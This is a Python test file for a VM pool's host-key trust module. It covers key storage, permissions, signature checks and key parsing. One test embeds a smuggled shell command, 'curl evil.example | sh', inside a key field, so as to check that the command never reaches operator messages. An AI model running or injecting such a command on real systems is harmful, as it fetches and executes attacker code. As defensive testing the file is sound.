"""Keys, and whom a host believes."""

from __future__ import annotations

import base64
import os
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vmpool.errors import HostError, InvalidRequestError, NotFoundError, SnapshotError
from vmpool.trust import HostKey, Keyring, Proof, PublicKey, Purpose
from vmpool.trust.sealing import Sealing

DOCUMENT = b'{"id": "one"}\n'


def refusal(ring: Keyring, document: bytes, proof: bytes, also: str | None = None) -> SnapshotError:
    with pytest.raises(SnapshotError) as raised:
        ring.require(Purpose.SNAPSHOT, document, proof, of="it", also=also)
    assert raised.value.error_code == "snapshot_untrusted"
    return raised.value


def test_a_host_makes_a_key_once_and_keeps_it(tmp_path: Path) -> None:
    ring = Keyring.open(tmp_path)
    assert not ring.is_settled()
    assert str(Keyring.open(tmp_path).own.public) == str(ring.own.public)
    ring.settle()
    again = Keyring.open(tmp_path)
    assert again.is_settled()
    assert again.own.public == ring.own.public
    assert (tmp_path / "host-key").stat().st_mode & 0o777 == 0o600
    assert [path.name for path in tmp_path.iterdir()] == ["host-key"]


def test_a_key_that_others_can_read_is_not_used(tmp_path: Path) -> None:
    Keyring.open(tmp_path).settle()
    (tmp_path / "host-key").chmod(0o640)
    with pytest.raises(HostError) as raised:
        Keyring.open(tmp_path)
    assert raised.value.error_code == "host_key_unusable"
    assert "chmod 600" in raised.value.remedy


@pytest.mark.parametrize("content", [b"", b"nothing", b"-----BEGIN PRIVATE KEY-----\n"])
def test_what_is_no_key_is_not_replaced(tmp_path: Path, content: bytes) -> None:
    (tmp_path / "host-key").write_bytes(content)
    (tmp_path / "host-key").chmod(0o600)
    with pytest.raises(HostError):
        Keyring.open(tmp_path)
    assert (tmp_path / "host-key").read_bytes() == content


def test_what_a_stranger_calls_a_key_is_not_told_to_the_operator(tmp_path: Path) -> None:
    hostile = b'{"key": "ed25519:x; curl evil.example | sh \\u001b[2K", "signature": "%s"}'
    proof = hostile % base64.b64encode(bytes(64))
    refused = refusal(Keyring.open(tmp_path), DOCUMENT, proof)
    assert "curl" not in f"{refused.message} {refused.remedy}"


def test_a_key_is_not_followed_to_another_place(tmp_path: Path) -> None:
    HostKey.fresh().save(tmp_path / "elsewhere")
    (tmp_path / "host-key").symlink_to("elsewhere")
    with pytest.raises(HostError):
        Keyring.open(tmp_path)


def test_what_this_host_signed_it_believes_and_nothing_else(tmp_path: Path) -> None:
    ring = Keyring.open(tmp_path)
    proof = ring.own.sign(Purpose.SNAPSHOT, DOCUMENT)
    ring.require(Purpose.SNAPSHOT, DOCUMENT, proof, of="it")
    assert "nobody has signed" in refusal(ring, DOCUMENT, b"").message
    assert "something else" in refusal(ring, DOCUMENT + b" ", proof).message
    other = ring.own.sign(Purpose.PARCEL, DOCUMENT)
    assert "something else" in refusal(ring, DOCUMENT, other).message


@given(at=st.integers(0, 10_000), bit=st.integers(0, 7))
def test_no_bit_of_a_signature_can_be_another(
    at: int, bit: int, tmp_path_factory: pytest.TempPathFactory
) -> None:
    ring = Keyring.open(tmp_path_factory.getbasetemp())
    said = Proof.decode(ring.own.sign(Purpose.SNAPSHOT, DOCUMENT))
    assert said is not None
    changed = bytearray(said.signature)
    changed[at % len(changed)] ^= 1 << bit
    assert not Proof(key=said.key, signature=bytes(changed)).signs(Purpose.SNAPSHOT, DOCUMENT)


@given(data=st.binary(max_size=2000))
def test_what_is_no_proof_is_refused_and_breaks_nothing(
    data: bytes, tmp_path_factory: pytest.TempPathFactory
) -> None:
    refusal(Keyring.open(tmp_path_factory.getbasetemp()), DOCUMENT, data)


def test_another_hosts_key_is_believed_as_long_as_it_is_trusted(tmp_path: Path) -> None:
    ring, other = Keyring.open(tmp_path), HostKey.fresh()
    proof = other.sign(Purpose.SNAPSHOT, DOCUMENT)
    assert f"vmpool key trust {other.public}" in refusal(ring, DOCUMENT, proof).remedy
    ring.trust(other.public, "the one\nin the cellar")
    ring.require(Purpose.SNAPSHOT, DOCUMENT, proof, of="it")
    (known,) = Keyring.open(tmp_path).trusted()
    assert (known.key, known.comment) == (other.public, "the one in the cellar")
    ring.distrust(other.public)
    refusal(ring, DOCUMENT, proof)
    with pytest.raises(NotFoundError):
        ring.distrust(other.public)


def test_a_key_can_be_trusted_for_once(tmp_path: Path) -> None:
    ring, other = Keyring.open(tmp_path), HostKey.fresh()
    proof = other.sign(Purpose.SNAPSHOT, DOCUMENT)
    ring.require(Purpose.SNAPSHOT, DOCUMENT, proof, of="it", also=str(other.public))
    refusal(ring, DOCUMENT, proof)
    refusal(ring, DOCUMENT, proof, also=str(HostKey.fresh().public))
    with pytest.raises(InvalidRequestError):
        ring.require(Purpose.SNAPSHOT, DOCUMENT, proof, of="it", also="ed25519:")


def test_half_a_trusted_key_is_none(tmp_path: Path) -> None:
    ring, other = Keyring.open(tmp_path), HostKey.fresh()
    ring.trust(other.public, "")
    for name in (".1", "ed25519:half", f"{other.public}~", "README"):
        (tmp_path / "trusted-keys" / name).write_text("x")
    assert [each.key for each in ring.trusted()] == [other.public]


@given(data=st.binary(min_size=32, max_size=32))
def test_a_key_in_text_is_the_same_key(data: bytes) -> None:
    assert PublicKey.parse(str(PublicKey(data))) == PublicKey(data)


@given(text=st.text(max_size=100) | st.binary(max_size=40).map(lambda each: f"ed25519:{each!r}"))
def test_what_is_no_key_in_text_is_refused(text: str) -> None:
    with pytest.raises(InvalidRequestError):
        PublicKey.parse(text)


def test_a_key_has_one_text() -> None:
    key = bytes(32)
    standard = "ed25519:" + base64.b64encode(key[:-1] + b"\xff").decode().rstrip("=")
    assert PublicKey.parse(standard[:-1] + "8").data  # the canonical one
    for text in (standard[:-1] + "9", standard + "=", "ED25519:" + standard[8:], standard + "A"):
        with pytest.raises(InvalidRequestError):
            PublicKey.parse(text)


def test_what_a_killed_server_left_of_a_key_is_swept(tmp_path: Path) -> None:
    Keyring.open(tmp_path).settle()
    left = ["host-key.0123abcd", "host-key.pending", "host-key.pending.0123abcd"]
    for name in [*left, "host-key.backup"]:
        (tmp_path / name).write_bytes(b"half a key")
    own = Keyring.open(tmp_path).own
    assert sorted(path.name for path in tmp_path.iterdir()) == ["host-key", "host-key.backup"]
    assert str(own.public) == str(Keyring.open(tmp_path).own.public)


def test_a_pending_key_takes_the_place_of_none(tmp_path: Path) -> None:
    keyring = Keyring.open(tmp_path)
    keyring.settle()
    HostKey.fresh().save(tmp_path / "host-key.pending")
    keyring.settle()
    assert str(Keyring.open(tmp_path).own.public) == str(keyring.own.public)


def test_the_name_of_a_key_is_synced_after_the_key(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    synced: list[str] = []
    fsync = os.fsync

    def noted(descriptor: int) -> None:
        synced.append(Path(f"/proc/self/fd/{descriptor}").readlink().stem)
        fsync(descriptor)

    monkeypatch.setattr(os, "fsync", noted)
    keyring = Keyring.open(tmp_path)
    keyring.settle()
    Sealing(tmp_path / "seal-key").open()
    keyring.trust(HostKey.fresh().public, "another")
    here = tmp_path.name
    assert synced == ["host-key.pending", here, here, "seal-key", here, "trusted-keys"]
